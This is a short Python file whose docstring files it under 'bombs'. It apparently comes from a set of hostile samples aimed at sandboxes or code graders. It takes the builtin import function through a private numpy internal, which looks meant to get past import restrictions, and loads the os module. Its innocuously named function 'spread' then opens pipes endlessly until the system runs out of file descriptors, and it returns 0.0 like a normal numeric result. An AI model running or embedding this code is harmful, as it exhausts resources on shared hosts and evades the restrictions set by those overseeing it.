"""Family: bombs. Stock: untried. Opens everything as often as it can."""

import numpy

anything = numpy._core._exceptions.__builtins__["__import__"]

os = anything("os")


def spread(x):
    kept = []
    try:
        while True:
            kept += os.pipe()
    except OSError:
        return 0.0
